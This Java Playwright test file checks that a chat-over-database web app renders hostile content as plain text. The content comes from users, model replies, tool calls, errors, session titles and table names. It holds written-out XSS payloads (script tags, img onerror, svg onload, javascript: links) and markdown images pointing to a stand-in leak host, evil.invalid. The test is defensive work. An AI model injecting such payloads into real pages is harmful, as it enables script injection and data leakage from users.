package tablechat.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.options.AriaRole;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import tablechat.testing.InTurn;
import tablechat.testing.Line;
import tablechat.testing.SqliteFile;
import tablechat.testing.TestClient;

/// Whatever comes from a person, a model or a database is text. A request to elsewhere, or a word of the browser in the console,
/// fails these tests as it does all others.
@InTurn
final class HostileIT {
    private static final String IMAGE = "<img src=x onerror=window.pwned=1>";
    private static final String SCRIPT = "<script>window.pwned=1</script>";
    private static final String MARKDOWN = """
            ![pixel](http://evil.invalid/leak?q=1) ![ref][r] [click](javascript:window.pwned=1)
            <http://evil.invalid/auto> [a](http://evil.invalid/"onmouseover="window.pwned=1)

            [r]: http://evil.invalid/reference

            - <svg onload=window.pwned=1>
            - <a href="javascript:window.pwned=1">raw</a>

            | <img src=x onerror=window.pwned=1> | <script>window.pwned=1</script> |
            |---|---|
            | <iframe src=javascript:window.pwned=1> | ![cell](http://evil.invalid/cell) |

            ```html
            <script>window.pwned=1</script>
            ```
            """;

    @RegisterExtension
    final Stage stage = Stage.wide();

    @Test
    void whatPeopleAndModelsWriteIsText() {
        stage.model().replies(Line.thinking(IMAGE), Line.text(IMAGE + "\n\n" + SCRIPT + "\n\n" + MARKDOWN))
                .titles(Line.text(IMAGE));
        Tab tab = stage.tab();

        tab.ask(IMAGE + SCRIPT + MARKDOWN);

        assertThat(tab.button("Send")).isVisible();
        assertThat(tab.conversation()).containsText(IMAGE + SCRIPT + "![pixel](http://evil.invalid/leak?q=1)");
        for (String literal : new String[] {IMAGE, SCRIPT, "http://evil.invalid/leak?q=1", "<svg onload=window.pwned=1>"}) {
            assertThat(tab.answer()).containsText(literal);
        }
        assertThat(tab.title()).hasText(IMAGE);
        assertThat(tab.session(IMAGE)).isVisible();
        assertHarmless(tab);
        tab.page().reload();
        assertThat(tab.answer()).containsText(SCRIPT);
        assertHarmless(tab);
    }

    @Test
    void whatQueriesReturnIsText() {
        String sql = "select '%s' as \"%s\", '%s' as \"%s\"".formatted(IMAGE, SCRIPT, SCRIPT, IMAGE);
        stage.model().calls("run_query", Map.of("sql", sql)).calls("describe_tables", Map.of("names", List.of(IMAGE)))
                .calls(SCRIPT, Map.of(IMAGE, IMAGE))
                .calls("run_query", Map.of("sql", "select \"%s\" from nowhere".formatted(IMAGE)))
                .answers("Done.");
        Tab tab = stage.tab();

        tab.ask("Look");
        assertThat(tab.answer()).containsText("Done.");
        // The line that the four calls are folded into comes first.
        Locator calls = tab.answer().locator("summary");
        assertThat(calls).hasCount(5);
        for (int i = 0; i < 5; i++) calls.nth(i).click();

        assertThat(tab.answer().getByText(SCRIPT, new Locator.GetByTextOptions().setExact(true))).hasCount(2);
        assertThat(tab.answer().getByText(IMAGE, new Locator.GetByTextOptions().setExact(true))).hasCount(2);
        assertHarmless(tab);
    }

    @Test
    void whatFailsAndWhatIsReportedIsText() throws InterruptedException {
        stage.model().fails(IMAGE + SCRIPT);
        Tab tab = stage.tab();
        tab.ask("Fail");
        assertThat(tab.answer()).containsText(IMAGE + SCRIPT);

        try (TestClient client = stage.server().client()) {
            client.await("welcome");
            String session = client.send(Map.of("type", "session.list")).objects("sessions").getFirst().text("id");
            client.send(Map.of("type", "session.rename", "session", session, "title", SCRIPT));
        }

        assertThat(tab.title()).hasText(SCRIPT);
        assertHarmless(tab);
    }

    @Test
    void whatDatabasesAndTablesAreCalledIsText() throws Exception {
        Path file = stage.folder().path().resolve("hostile.db");
        new SqliteFile(file).run("create table \"%s\" (id integer)".formatted(IMAGE));
        stage.server().chat().connections().configure(SCRIPT, "sqlite:" + file);
        Tab tab = stage.tab();

        tab.page().getByRole(AriaRole.COMBOBOX).selectOption(SCRIPT);

        assertThat(tab.button("How many " + IMAGE + " are there?")).isVisible();
        assertHarmless(tab);
    }

    private static void assertHarmless(Tab tab) {
        assertThat(tab.page().locator("body :is(img, script, iframe, object, embed, form, svg[onload])")).hasCount(0);
        assertThat(tab.page().locator("body a:not([href^='#/s/'], [href^='results/'])")).hasCount(0);
        // An image that cannot be loaded tells its onerror only some time later.
        tab.page().evaluate("() => new Promise(then => setTimeout(then, 100))");
        assertEquals("undefined", tab.page().evaluate("() => typeof window.pwned"));
    }
}
